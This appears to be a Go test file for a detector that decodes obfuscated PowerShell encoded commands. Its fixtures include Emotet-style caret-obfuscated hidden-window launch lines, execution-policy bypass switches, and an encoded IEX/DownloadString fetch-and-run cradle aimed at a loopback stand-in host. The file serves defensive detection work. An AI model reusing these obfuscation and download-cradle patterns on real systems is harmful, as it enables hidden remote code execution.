package pscmd

import (
	"encoding/base64"
	"strings"
	"testing"
	"unicode/utf16"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
)

// enc returns base64 of s as UTF-16LE, as powershell -EncodedCommand wants.
func enc(s string) string {
	u := utf16.Encode([]rune(s))
	b := make([]byte, 0, 2*len(u))
	for _, c := range u {
		b = append(b, byte(c), byte(c>>8))
	}
	return base64.StdEncoding.EncodeToString(b)
}

const regress = "Write-Output 'TRIAGE-REGRESSION'"

type want struct {
	Text string
	Kind string
}

func TestFind(t *testing.T) {
	cmd := enc(regress)
	dl := enc("IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1:9/TRIAGE-REGRESSION.ps1')")
	jp := enc("Write-Output '請求書 TRIAGE-REGRESSION'")
	tests := []struct {
		name string
		in   string
		want []want
	}{
		{"plain", "powershell -enc " + cmd, []want{{regress, KindPowerShell}}},
		{"emotet_caret", `cmd /c P^Ow^er^she^L^L -w hidden -ENCOD ` + cmd + ` & msg %username% /v Word experienced an error`, []want{{regress, KindPowerShell}}},
		{"lnk_args", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand ` + cmd, []want{{regress, KindPowerShell}}},
		{"switch_soup", `"PowerShell.EXE" -nop -w hidden -ExecutionPolicy bypass -NonInteractive -ec "` + dl + `"`, []want{{"IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1:9/TRIAGE-REGRESSION.ps1')", KindPowerShell}}},
		{"single_e", "pwsh -e " + cmd, []want{{regress, KindPowerShell}}},
		{"slash_enc", "powershell /enc " + cmd, []want{{regress, KindPowerShell}}},
		{"en_dash", "powershell \u2013enc " + cmd, []want{{regress, KindPowerShell}}},
		{"em_dash_prefix", "powershell.exe \u2014EnCoDeDcOmM " + cmd, []want{{regress, KindPowerShell}}},
		{"colon_form", "powershell -EncodedCommand:" + cmd, []want{{regress, KindPowerShell}}},
		{"caret_in_switch_and_token", "p^owershell -e^nc " + cmd[:10] + "^" + cmd[10:], []want{{regress, KindPowerShell}}},
		{"vba_concat", `s = "powershell -w hidden -enc " & "` + cmd + `"`, []want{{regress, KindPowerShell}}},
		{"unpadded", "powershell -enc " + strings.TrimRight(cmd, "="), []want{{regress, KindPowerShell}}},
		{"non_ascii_text", "powershell -enc " + jp, []want{{"Write-Output '請求書 TRIAGE-REGRESSION'", KindPowerShell}}},
		{"bare_enc", "Arguments: -nop -enc " + cmd, []want{{regress, KindBareEnc}}},
		{"from_base64_utf16", `$c = [System.Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('` + cmd + `')); iex $c`, []want{{regress, KindFromBase64UTF16}}},
		{"from_base64_ascii", `[Convert]::FromBase64String("` + base64.StdEncoding.EncodeToString([]byte(regress)) + `")`, []want{{regress, KindFromBase64Text}}},
		{"twice_same_token", "powershell -enc " + cmd + "\npowershell -enc " + cmd, []want{{regress, KindPowerShell}}},
		{"two_commands", "powershell -enc " + cmd + "\r\npwsh -ec " + dl, []want{{regress, KindPowerShell}, {"IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1:9/TRIAGE-REGRESSION.ps1')", KindPowerShell}}},
		// Negatives.
		{"command_switch", "powershell -Command Get-Date -enc", nil},
		{"file_switch_then_enc_later", "powershell -File x.ps1 -e " + cmd, []want{{regress, KindBareEnc}}},
		{"ascii_not_utf16", "powershell -enc " + base64.StdEncoding.EncodeToString([]byte(regress)), nil},
		{"binary_token", "powershell -enc " + base64.StdEncoding.EncodeToString([]byte{0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xff, 0xff, 0, 0, 0xb8, 0, 1, 2}), nil},
		{"prose", "Use PowerShell to list files, e.g. run Get-ChildItem -e something", nil},
		{"windowspowershell_path_only", `C:\Windows\WindowsPowerShell -enc notbase64!!`, nil},
		{"grep_e", "grep -e abcdefghijklmnopqrstuvwxyz file.txt", nil},
		{"from_base64_binary", `[Convert]::FromBase64String('TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAA=')`, nil},
		{"empty", "", nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Find(tt.in)
			var gw []want
			for _, d := range got {
				gw = append(gw, want{d.Text, d.Kind})
				if d.Offset < 0 || d.Offset > len(tt.in) {
					t.Errorf("offset %d out of range", d.Offset)
				}
				if !strings.Contains(strings.ReplaceAll(tt.in[d.Offset:], "^", ""), d.Encoded) {
					t.Errorf("token %q not at offset %d", d.Encoded, d.Offset)
				}
			}
			if diff := cmp.Diff(tt.want, gw); diff != "" {
				t.Errorf("Find(%q) (-want +got):\n%s", tt.name, diff)
			}
		})
	}
}

func TestFind_bounded(t *testing.T) {
	var b strings.Builder
	for i := 0; i < 3*MaxResults; i++ {
		b.WriteString("powershell -enc " + enc("Write-Output "+strings.Repeat("x", i+1)) + "\n")
	}
	got := Find(b.String())
	if len(got) != MaxResults {
		t.Fatalf("got %d results, want %d", len(got), MaxResults)
	}
	for i := 1; i < len(got); i++ {
		if got[i].Offset <= got[i-1].Offset {
			t.Fatalf("results not ordered by offset at %d", i)
		}
	}
}

func TestFind_offset(t *testing.T) {
	cmd := enc(regress)
	in := "xx powershell -w hidden -enc " + cmd
	got := Find(in)
	if len(got) != 1 {
		t.Fatalf("got %d results, want 1", len(got))
	}
	if want := strings.Index(in, cmd); got[0].Offset != want {
		t.Errorf("offset = %d, want %d", got[0].Offset, want)
	}
	if got[0].Encoded != cmd {
		t.Errorf("encoded = %q, want %q", got[0].Encoded, cmd)
	}
}

func TestIsEncSwitch(t *testing.T) {
	for _, s := range []string{"e", "ec", "en", "enc", "enco", "encod", "encodedcommand"} {
		if !isEncSwitch(s) {
			t.Errorf("isEncSwitch(%q) = false", s)
		}
	}
	for _, s := range []string{"", "ex", "ep", "executionpolicy", "encodedcommandx", "command", "w"} {
		if isEncSwitch(s) {
			t.Errorf("isEncSwitch(%q) = true", s)
		}
	}
}

func FuzzFind(f *testing.F) {
	cmd := enc(regress)
	for _, s := range []string{
		"powershell -enc " + cmd,
		`P^Ow^er^she^L^L -w hidden -ENCOD ` + cmd,
		"-enc " + cmd,
		"[Convert]::FromBase64String('" + cmd + "')",
		"powershell \u2013e ^^^^",
		"powershell",
		"",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := Find(s)
		if len(got) > MaxResults {
			t.Fatalf("%d results", len(got))
		}
		for _, d := range got {
			if d.Offset < 0 || d.Offset > len(s) {
				t.Fatalf("offset %d outside input of %d bytes", d.Offset, len(s))
			}
			if d.Encoded == "" || len(d.Encoded) > MaxToken {
				t.Fatalf("bad token length %d", len(d.Encoded))
			}
			if !utf8.ValidString(d.Text) {
				t.Fatalf("text not UTF-8: %q", d.Text)
			}
		}
	})
}
